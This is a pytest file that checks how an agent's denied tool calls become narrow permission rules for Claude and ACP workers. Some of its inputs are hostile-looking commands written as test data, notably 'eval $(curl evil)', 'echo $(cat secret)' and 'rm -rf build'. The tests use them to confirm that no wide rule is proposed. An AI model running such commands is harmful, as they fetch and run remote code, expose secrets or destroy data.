"""The narrowest rules for what an agent was denied."""

from __future__ import annotations

import pytest

from abp_tui.domain.model import Denial
from abp_tui.workers import acp_rules, claude_rules
from abp_tui.workers.claude_cli import ClaudeCliWorker, ClaudeOptions
from abp_tui.workers.rules import command_globs, path_glob

ITEM = {"file_path": "/srv/docs/report.md"}


@pytest.mark.parametrize(
    ("command", "globs"),
    [
        ("pdftotext a.pdf -", ["pdftotext *"]),
        ("git log --oneline", ["git log *"]),
        ("git -C x log", ["git *"]),
        ("ls", ["ls"]),
        ("cd docs && pdftotext a.pdf - 2>/dev/null | head -5", ["pdftotext *", "head *"]),
        ("rm -rf build", ["rm -rf build"]),
        ("python3 -c 'print(1)'", ["python3 -c 'print(1)'"]),
        ("python3 tool.py a", ["python3 *"]),
        ("echo $(cat secret)", []),
        ("echo x > file", []),
        ("unclosed 'quote", []),
        ("", []),
    ],
)
def test_a_command_becomes_a_glob_for_each_of_its_programs(command: str, globs: list[str]) -> None:
    assert list(command_globs(command)) == globs


@pytest.mark.parametrize(
    ("path", "glob"),
    [
        ("/srv/docs/report.md", "/srv/docs/*.md"),
        ("/srv/out/report.summary.txt", "/srv/out/*.summary.txt"),
        ("/srv/out/index.html", "/srv/out/index.html"),
        ("out/report.txt", "out/*.txt"),
        ("/", "/"),
    ],
)
def test_the_items_name_in_a_path_gives_way(path: str, glob: str) -> None:
    assert path_glob(path, ITEM) == glob
    assert path_glob(path, {"n": 1}) == path


def claude(*denied: tuple[str, str]) -> list[str]:
    return list(claude_rules.rules([Denial(tool=tool, detail=detail) for tool, detail in denied], ITEM))


def test_the_rules_of_claude() -> None:
    assert claude(
        ("Bash", "pdftotext /srv/docs/report.md"),
        ("Bash", "pdftotext -layout x"),
        ("Write", "/srv/docs/report.md"),
        ("Edit", "/srv/docs/report.md"),
        ("Edit", "notes.txt"),
        ("Read", "/etc/hosts"),
        ("WebFetch", "https://example.org/a?b=c"),
        ("WebSearch", "cats"),
        ("mcp__abp__list_jobs", "{}"),
    ) == [
        "Bash(pdftotext *)",
        "Edit(//srv/docs/*.md)",
        "Edit(notes.txt)",
        "Read(//etc/hosts)",
        "WebFetch(domain:example.org)",
        "WebSearch",
        "mcp__abp__list_jobs",
    ]


def test_nothing_wide_is_proposed_for_what_is_not_understood() -> None:
    assert (
        claude(
            ("Write", "Claude requested permissions to write to b.txt"),
            ("Bash", "eval $(curl evil)"),
            ("WebFetch", "no address"),
            ("SomeNewTool", "x"),
            ("Write", ""),
        )
        == []
    )


def test_each_proposed_rule_is_an_option_that_claude_takes() -> None:
    rules = claude(("Bash", "pdftotext a"), ("Write", "/srv/docs/report.md"))
    worker = ClaudeCliWorker(ClaudeOptions(allowed_tools=tuple(rules)))
    assert worker.rules() == tuple(rules)


def test_the_rules_of_acp() -> None:
    denials = [
        Denial(tool=t, detail=d) for t, d in (("execute", "git log x"), ("Write", "/srv/docs/report.md"))
    ]
    denials += [Denial(tool="fetch", detail="https://example.org"), Denial(tool="Strange", detail="x")]
    rules = list(acp_rules.rules_for(denials, ITEM))
    assert rules == ["execute(git log *)", "edit(/srv/docs/*.md)", "fetch(https://example.org)"]
    assert acp_rules.allowed(acp_rules.Wish("execute", "git log --all"), rules, ()) is True
    assert acp_rules.allowed(acp_rules.Wish("execute", "git push"), rules, ()) is None
    for rule in rules:
        assert acp_rules.check_rule(rule) == rule
